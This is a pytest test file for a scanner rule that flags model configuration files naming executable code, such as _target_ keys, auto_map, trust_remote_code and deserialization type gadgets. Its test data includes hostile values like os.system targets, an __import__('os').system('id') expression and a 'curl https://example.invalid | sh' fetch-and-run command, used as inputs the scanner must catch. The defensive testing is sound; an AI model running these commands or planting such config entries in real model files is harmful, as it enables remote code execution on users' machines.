"""A configuration names code."""

from __future__ import annotations

import pytest

from scanner.facts import ConfigFact
from scanner.findings import Severity
from scanner.rules.config_names_code import RULE
from tests.scanner.rules.configs import value


@pytest.mark.parametrize(
    "fact",
    [
        value("auto_map", None),
        value("custom_generate", "org/repo"),
        value("custom_pipelines", None),
        value("_attn_implementation", "org/kernel"),
        value("attn_implementation", "org/kernel:fn"),
        value("_experts_implementation", "org/kernel@v1"),
        value("_target_", "os.system"),
        value("kernel", "org/kernel"),
    ],
    ids=lambda fact: fact.key,
)
def test_fires(fact: ConfigFact) -> None:
    assert len(list(RULE.apply(fact))) == 1


@pytest.mark.parametrize(
    "fact",
    [
        value("attn_implementation", "sdpa"),
        value("_attn_implementation", "flash_attention_2"),
        value("auto_map", 17),
        value("AutoModel", "m.X", path="$.auto_map.AutoModel"),
        value("kernel", 3),
        value("quant_method", "gptq"),
    ],
    ids=lambda fact: fact.path,
)
def test_stays_quiet(fact: ConfigFact) -> None:
    assert list(RULE.apply(fact)) == []


@pytest.mark.parametrize("target", ["os.system", "subprocess.Popen", "builtins.eval"])
def test_a_target_with_a_known_effect_is_critical(target: str) -> None:
    (finding,) = RULE.apply(value("_target_", target))

    assert finding.severity is Severity.CRITICAL


@pytest.mark.parametrize("target", ["functools.partial", "Adam", "unheard_of.Model"])
def test_any_other_target_is_not(target: str) -> None:
    (finding,) = RULE.apply(value("_target_", target))

    assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    "fact",
    [
        value("dotted-name", "os.system", path="$.target"),
        value("trust_remote_code", True),
        value("parent_library", "os"),
        value("loader_module", "evil.module"),
        value("__module__", "evil"),
        value("activation_fn", "evil.module.Function"),
        value("types", "evil.Module"),
        value("custom_ops_library", "evil.so"),
        value("$type", "System.Windows.Data.ObjectDataProvider, PresentationFramework"),
        value("@class", "javax.script.ScriptEngineManager"),
        value("lc", 1),
        value("py/function", "os.system"),
    ],
    ids=lambda fact: fact.key,
)
def test_other_ways_to_name_code_fire(fact: ConfigFact) -> None:
    assert len(list(RULE.apply(fact))) == 1


@pytest.mark.parametrize(
    "fact",
    [
        value("dotted-name", "model.safetensors"),
        value("dotted-name", "ldm.models.diffusion.ddpm.LatentDiffusion", path="$.target"),
        value("trust_remote_code", False),
        value("parent_library", "transformers.models.bert.modeling_bert"),
        value("__module__", "sklearn.pipeline"),
        value("activation_function", "gelu_new"),
        value("activation_fn", "torch.nn.modules.linear.Identity"),
        value("@type", "sc:Dataset"),
        value("custom_ops_library", ""),
    ],
    ids=lambda fact: f"{fact.key} {fact.value}",
)
def test_ordinary_names_stay_quiet(fact: ConfigFact) -> None:
    assert list(RULE.apply(fact)) == []


@pytest.mark.parametrize(
    "target",
    [
        "torch.hub.os.system", "numpy.f2py.os.popen",
        "torch.nn.modules.module.builtins.eval", "nemo.utils.importlib.import_module",
    ],
)  # fmt: skip
@pytest.mark.parametrize("key", ["_target_", "class_name", "py/function"])
def test_a_module_that_another_holds_is_critical(target: str, key: str) -> None:
    (finding,) = RULE.apply(value(key, target))

    assert finding.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "target",
    [
        "torch.optim.AdamW", "torch.nn.ReLU", "torch.nn.functional.relu",
        "torchvision.models.resnet18", "pytorch_lightning.callbacks.ModelCheckpoint",
        "nemo.collections.asr.modules.ConformerEncoder",
        "omegaconf.DictConfig", "collections.OrderedDict", "torch.float16",
    ],
)  # fmt: skip
def test_reviewed_targets_stay_quiet(target: str) -> None:
    assert list(RULE.apply(value("_target_", target))) == []
    assert list(RULE.apply(value("dotted-name", target, path="$.model.class_path"))) == []


@pytest.mark.parametrize(
    ("key", "target"),
    [
        ("class_path", "unheard_of.models.Net"), ("class_path", "unheard_of.make"),
        ("target", "unheard_of.Net"), ("_target", "unheard_of.make"),
        ("class_path", "pytorch_lightning.callbacks.LambdaCallback"),
        ("class_path", "transformers.AutoModel.from_pretrained"),
    ],
)  # fmt: skip
def test_an_unknown_class_to_import_is_doubted(key: str, target: str) -> None:
    (finding,) = RULE.apply(value("dotted-name", target, path=f"$.model.{key}"))

    assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize(
    ("key", "text"),
    [
        ("target", "model.onnx"), ("target", "loss.total"), ("target", "train.csv"),
        ("name", "unheard_of.Net"), ("description", "See unheard_of.Net"),
    ],
)  # fmt: skip
def test_other_dotted_words_stay_quiet(key: str, text: str) -> None:
    assert list(RULE.apply(value("dotted-name", text, path=f"$.{key}"))) == []


@pytest.mark.parametrize(
    ("key", "text", "path"),
    [
        ("native-library", "./x.so", "$.engine"), ("native-library", "x.dll", "$.plugins"),
        ("expression", "__import__('os').system('id')", "$.activation"),
        ("expression", "curl https://example.invalid | sh", "$.cmd"),
    ],
)  # fmt: skip
def test_libraries_and_expressions_are_doubted(key: str, text: str, path: str) -> None:
    (finding,) = RULE.apply(value(key, text, path=path))

    assert finding.severity is Severity.MEDIUM


@pytest.mark.parametrize("path", ["$.prompt", "$.description", "$.example_text", "$.content"])
def test_what_people_write_about_code_stays_quiet(path: str) -> None:
    assert list(RULE.apply(value("expression", "eval(input())", path=path))) == []
